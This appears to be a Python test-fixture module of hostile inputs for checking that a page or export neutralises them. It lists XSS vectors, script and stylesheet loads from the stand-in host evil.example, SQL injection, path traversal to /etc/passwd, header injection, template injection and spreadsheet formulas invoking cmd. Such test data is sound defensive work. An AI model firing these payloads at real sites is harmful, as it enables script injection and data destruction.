"""What a stranger may write into a page to harm whoever looks at it: each is inert, or the test that holds it fails."""

from __future__ import annotations

# Each one that runs calls pwned(1) or asks for http://evil.example/.
MARKUP = (
    "<script>pwned(1)</script>",
    "</title><script>pwned(1)</script>",
    "</textarea><script>pwned(1)</script>",
    "</style><script>pwned(1)</script>",
    "--><script>pwned(1)</script><!--",
    "<ScRiPt/src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=pwned(1)>",
    '"><img src=x onerror=pwned(1)>',
    "' onmouseover='pwned(1)' x='",
    '" autofocus onfocus="pwned(1)" x="',
    "<svg onload=pwned(1)>",
    "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=pwned(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(1)>",
    "<iframe srcdoc='<script>parent.pwned(1)</script>'></iframe>",
    "<object data=javascript:pwned(1)></object>",
    "<embed src=javascript:pwned(1)>",
    "<a href=javascript:pwned(1)>逾期</a>",
    "<form action=javascript:pwned(1)><button>逾期</button></form>",
    "<details open ontoggle=pwned(1)>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<div style='background:url(http://evil.example/x)'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "]]><script>pwned(1)</script>",
    "&lt;script&gt;pwned(1)&lt;/script&gt;",
    "\\u003cscript\\u003epwned(1)\\u003c/script\\u003e",
    "\u2028pwned(1)\u2029<!--<script>",
    "＜script＞pwned(1)＜/script＞",
    "\u202e<script>pwned(1)</script>\u202c",
    "<scr\u200bipt>pwned(1)</scr\u200bipt>",
    "'; DROP TABLE articles; --",
    "' OR 1=1 --",
    "../../../../etc/passwd%00",
    "\r\nSet-Cookie: x=1\r\n\r\n<script>pwned(1)</script>",
)

ADDRESSES = (
    "javascript:pwned(1)",
    "JaVaScRiPt:pwned(1)//http://a.example/",
    "data:text/html,<script>pwned(1)</script>",
    "vbscript:pwned(1)",
    'http://a.example/"><script>pwned(1)</script>',
    "http://a.example/' onmouseover='pwned(1)",
    "\x01javascript:pwned(1)",
    "//evil.example/",
)

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","逾期")',
    "+SUM(1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1)",
    '"=1+1',
    ",=1+1",
    "逾期\n=1+1",
)

PAYLOADS = (*MARKUP, *ADDRESSES, *FORMULAS)
